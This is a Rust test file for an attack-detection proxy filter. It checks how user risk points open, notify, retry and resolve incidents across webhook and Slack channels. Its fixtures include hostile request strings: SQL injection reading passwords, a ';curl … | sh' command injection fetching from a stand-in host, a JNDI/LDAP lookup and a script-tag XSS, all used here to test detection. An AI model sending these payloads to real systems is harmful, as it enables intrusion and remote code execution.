//! Does the engine do its one job, whatever order the proxy calls it in? Without a proxy: a map, a clock, a list of calls.

#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]

mod answered;
mod bounds;
mod console;
mod console_lists;
mod death;
mod delivery;
mod detected;
mod echo;
mod ending;
mod held;
mod learn;
mod metrics;
mod ongoing;
mod orders;
mod privacy;
mod proxy;
mod respond;
mod shield;
mod unseen;

use crate::proxy::{Proxy, TOKEN, known};
use std::collections::BTreeMap;

use user_risk_filter::clock::Timestamp;
use user_risk_filter::engine::stream::{Mark, Part, Stream};
use user_risk_filter::engine::{Engine, Input};
use user_risk_filter::exchange::head::Head;
use user_risk_filter::notify::callout::Reply;
use user_risk_filter::plugin::config::Config;
use user_risk_filter::secret::Variable;
use user_risk_filter::state::memory::Memory;
use user_risk_filter::worker::metric::Counter;

const UNION: &str = "/search?q=1'%20UNION%20SELECT%20password%20FROM%20users--";
const COMMAND: &str = "/run?c=%3Bcurl%20http://x.example/s%7Csh";
const JNDI: &str = "/log?x=$%7Bjndi:ldap://x.example/a%7D";
const SCRIPT: &str = "/say?t=%3Cscript%3Ealert(1)%3C/script%3E";
const TEST: &str = "/?t=user-risk-filter-test";
const PLAIN: &str = "/search?q=union%20jack";

const CHANNELS: &str = r#""notify": [
    {"webhook": {"cluster": "receiver", "url": "https://h.example/risk", "secret": "whsec_bGFiLW9ubHktbGFiLW9ubHktbGFiLW9ubHktbGFi"}},
    {"states": ["opened", "updated", "resolved"],
     "slack": {"cluster": "slack", "url": "https://hooks.slack.com/services/T/B/x"}}]"#;

fn with(options: &str) -> String {
    format!("{{{options}}}")
}

#[test]
fn two_critical_attacks_open_one_incident_told_once_on_each_channel() {
    let cells = Memory::default();
    let mut proxy = Proxy::new(&cells, &with(CHANNELS));
    assert_eq!(proxy.get(0, "alice", PLAIN), 0);
    assert_eq!(proxy.get(0, "mallory", UNION), 8);
    assert_eq!(proxy.get(1, "mallory", UNION), 0, "the same act counts once");
    assert_eq!(proxy.get(1, "bob", COMMAND), 8);
    proxy.deliver(200);
    assert_eq!(proxy.sent, []);
    assert_eq!(proxy.get(1, "mallory", COMMAND), 8);
    proxy.deliver(200);
    proxy.deliver(200);
    let clusters: Vec<_> = proxy.sent.iter().map(|(cluster, _)| cluster.as_str()).collect();
    assert_eq!(clusters, ["receiver", "slack"]);
    assert_eq!(proxy.count(Counter::Opened), 1);
    assert_eq!(proxy.count(Counter::Sent), 2);
    let opened: Vec<_> = proxy.lines.iter().filter(|line| line["event"] == "incident_opened").collect();
    assert_eq!((opened.len(), &opened[0]["increase"], &opened[0]["user"]), (1, &16.into(), &"mallory".into()));
}

#[test]
fn two_requests_with_the_test_string_are_an_alert() {
    let cells = Memory::default();
    let mut proxy = Proxy::new(&cells, &with(CHANNELS));
    assert_eq!(proxy.get(0, "ops", TEST), 8);
    assert_eq!(proxy.get(0, "ops", TEST), 8, "always a new act");
    proxy.deliver(200);
    assert_eq!(proxy.sent.len(), 2);
}

#[test]
fn one_request_never_opens_an_incident() {
    let cells = Memory::default();
    let mut proxy = Proxy::new(&cells, "{}");
    let all = format!("{UNION}&{}&{}&{}", &COMMAND[5..], &JNDI[5..], &SCRIPT[5..]);
    assert_eq!(proxy.get(0, "mallory", &all), 10, "the cap is the threshold");
    assert_eq!(proxy.get(0, "mallory", &all), 0);
    assert_eq!(proxy.count(Counter::Opened), 0);
}

#[test]
fn an_incident_ends_when_its_points_have_left_and_a_new_crossing_is_a_new_one() {
    let cells = Memory::default();
    let options = format!(r#""risk": {{"window": "3s"}}, {CHANNELS}"#);
    let mut proxy = Proxy::new(&cells, &with(&options));
    proxy.get(0, "mallory", UNION);
    proxy.get(1, "mallory", COMMAND);
    proxy.deliver(200);
    let first = proxy.sent.clone();
    assert_eq!(first.len(), 2);
    let opened = proxy.now;
    while proxy.sent.len() == 2 {
        proxy.now += 100;
        proxy.deliver(200);
    }
    assert_eq!(proxy.now - opened, 3000, "told at the tick on which it falls due, with the user gone");
    proxy.now += 1000;
    proxy.deliver(200);
    assert_eq!((proxy.sent.len(), proxy.count(Counter::Resolved)), (4, 1));
    assert!(proxy.bodies[2..].iter().all(|body| body.contains("quiet again")), "{:?}", proxy.bodies);
    // The same acts count again: they are not in the window any more, nor an echo of a minute ago.
    proxy.now += 60_000;
    assert_eq!(proxy.get(0, "mallory", UNION), 8);
    proxy.deliver(200);
    assert_eq!(proxy.sent.len(), 4, "the increase is 8, not 24");
    assert_eq!(proxy.get(0, "mallory", COMMAND), 8);
    proxy.deliver(200);
    assert_eq!(proxy.sent.len(), 6);
    assert_ne!(proxy.sent[4].1, first[0].1, "another incident, another message id");
}

/// A listener is updated between the crossing and the end: the old root contexts go on ticking.
#[test]
fn after_a_change_of_channels_the_end_is_told_once_and_to_the_new_ones() {
    let cells = Memory::default();
    let window = r#""risk": {"window": "3s"}"#;
    let mut old = Proxy::new(&cells, &with(&format!("{window}, {CHANNELS}")));
    old.get(0, "mallory", UNION);
    old.get(1, "mallory", COMMAND);
    old.deliver(200);
    assert_eq!(old.sent.len(), 2);
    let slack = r#""notify": [{"states": ["opened", "resolved"],
        "slack": {"cluster": "slack", "url": "https://hooks.slack.com/services/T/B/new"}}]"#;
    let mut new = Proxy::new(&cells, &with(&format!("{window}, {slack}")));
    new.now = old.now + 100;
    for _ in 0..100 {
        old.deliver(200);
        new.deliver(200);
        (old.now, new.now) = (old.now + 100, new.now + 100);
    }
    assert_eq!((old.sent.len(), new.sent.len()), (2, 1), "{:?}", new.bodies);
    assert_eq!(old.count(Counter::Resolved) + new.count(Counter::Resolved), 1);
}

#[test]
fn a_bucket_full_of_open_incidents_gives_up_one_and_tells_so() {
    let cells = Memory::default();
    let options = format!(r#""memory": {{"users": 8}}, {CHANNELS}"#);
    let mut proxy = Proxy::new(&cells, &with(&options));
    for user in 0..8 {
        proxy.get(0, &format!("u{user}"), UNION);
        proxy.get(0, &format!("u{user}"), COMMAND);
        proxy.now += 2000;
    }
    proxy.get(0, "newcomer", UNION);
    assert_eq!((proxy.count(Counter::Opened), proxy.count(Counter::Resolved)), (8, 1));
    for _ in 0..60 {
        proxy.now += 1000;
        proxy.deliver(200);
    }
    let told = proxy.bodies.iter().filter(|body| body.contains("watched no longer")).count();
    assert_eq!(told, 2, "once on each channel");
    let line = proxy.lines.iter().find(|line| line["event"] == "incident_resolved").unwrap();
    assert_eq!(line["reason"], "evicted");
}

#[test]
fn what_matches_at_the_same_place_for_three_users_looks_like_a_false_alarm() {
    let cells = Memory::default();
    let mut proxy = Proxy::new(&cells, &with(CHANNELS));
    for user in ["a", "b", "c"] {
        proxy.now += 1000;
        proxy.get(0, user, UNION);
    }
    proxy.get(0, "c", COMMAND);
    proxy.deliver(200);
    let body = proxy.bodies.iter().find(|body| body.contains("exclusion")).unwrap();
    assert!(body.contains("{rule: sqli.union-select, parameter: q}"), "{body}");
}

#[test]
fn a_message_keeps_its_id_until_it_has_arrived() {
    let cells = Memory::default();
    let mut proxy = Proxy::new(&cells, &with(CHANNELS));
    proxy.get(0, "mallory", UNION);
    proxy.get(0, "mallory", COMMAND);
    for status in [503, 503, 200, 200] {
        proxy.deliver(status);
        proxy.now += 3_000;
    }
    let ids: Vec<_> = proxy.sent.iter().filter(|(cluster, _)| cluster == "receiver").map(|(_, id)| id).collect();
    assert_eq!(ids.len(), 3);
    assert!(ids.iter().all(|id| *id == ids[0] && id.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')));
    assert_eq!((proxy.count(Counter::Retried), proxy.count(Counter::Sent)), (4, 2));
}

#[test]
fn a_worker_that_died_before_queueing_is_finished_by_the_next_one() {
    let cells = Memory::default();
    let mut proxy = Proxy::new(&cells, &with(CHANNELS));
    proxy.get(0, "mallory", UNION);
    // A cell that can't be changed any more stands in for the death: the incident is recorded, the queue never fed.
    let dead = Engine::new(
        Config::load(with(CHANNELS).as_bytes(), &|_| Variable::Unset).unwrap().config,
        Dying { cells: &cells, dead: &["/parcels/", "/queue/"] },
        [3; 32],
    );
    let head = [(":method", "GET"), (":path", COMMAND), (":authority", "shop.example"), ("x-user-id", "mallory")];
    let mut stream = Stream::default();
    let now = Timestamp::from_millis(proxy.now);
    dead.on(Input::Stream(&mut stream, Part::Head(Head::new(head.into_iter().collect()))), now);
    dead.on(Input::Stream(&mut stream, Part::Mark(Mark::Complete, &known())), now);
    assert_eq!(proxy.sent, []);
    for _ in 0..800 {
        proxy.now += 250;
        proxy.deliver(200);
    }
    assert_eq!(proxy.sent.len(), 2, "whoever meets a pending incident queues it, and every worker looks for them");
}

#[test]
fn a_filter_that_tells_nobody_leaves_what_is_pending_to_one_that_does() {
    let cells = Memory::default();
    let (mut told, mut suppressed) = (Proxy::new(&cells, &with(CHANNELS)), Proxy::new(&cells, "{}"));
    suppressed.get(0, "mallory", UNION);
    told.get(0, "mallory", COMMAND);
    suppressed.get(0, "mallory", JNDI);
    suppressed.deliver(200);
    told.deliver(200);
    assert_eq!(told.sent.len(), 2);
}

#[test]
fn parts_may_come_in_any_order_or_not_at_all() {
    let cells = Memory::default();
    let mut proxy = Proxy::new(&cells, &with(CHANNELS));
    let marks = [Mark::End, Mark::Answered, Mark::Complete];
    for order in 0..6 {
        let mut stream = Stream::default();
        for step in 0..6 {
            let mark = marks[(order + step) % 3];
            proxy.on(0, Input::Stream(&mut stream, Part::Mark(mark, &known())));
            proxy.on(0, Input::Stream(&mut stream, Part::Chunk(b"a=1' UNION SELECT password FROM users--")));
        }
        proxy.on(0, Input::Stream(&mut stream, Part::Head(Head::default())));
        proxy.on(0, Input::Stream(&mut stream, Part::Mark(Mark::End, &known())));
    }
    assert!(proxy.lines.iter().any(|line| line["source"] == "address"), "without a header it is the address's");
}

#[test]
fn what_the_operator_says_of_detection_holds_in_the_engine() {
    for (options, points) in [
        ("{}", 8),
        (r#"{"rules": {"sqli": "off"}}"#, 0),
        (r#"{"rules": {"sqli.union-select": {"points": 2}}}"#, 2),
        (r#"{"exclude": [{"category": "sqli", "route": "/search"}]}"#, 0),
        (r#"{"exclude": [{"category": "sqli", "route": "/find"}]}"#, 8),
    ] {
        let cells = Memory::default();
        let mut proxy = Proxy::new(&cells, &format!(r#"{{"detect": {options}}}"#));
        assert_eq!(proxy.get(0, "alice", UNION), points, "{options}");
    }
}

/// Cells of which some, by a part of their keys, can't be written.
struct Dying<'a> {
    cells: &'a Memory,
    dead: &'static [&'static str],
}

impl user_risk_filter::state::cells::Cells for Dying<'_> {
    fn read(
        &self,
        key: &str,
    ) -> Result<Option<user_risk_filter::state::cells::Cell>, user_risk_filter::state::cells::Unavailable> {
        self.cells.read(key)
    }

    fn swap(
        &self,
        key: &str,
        bytes: &[u8],
        seen: Option<user_risk_filter::state::cells::Version>,
    ) -> Result<(), user_risk_filter::state::cells::Refusal> {
        if self.dead.iter().any(|part| key.contains(part)) {
            return Err(user_risk_filter::state::cells::Refusal::Unavailable);
        }
        self.cells.swap(key, bytes, seen)
    }
}
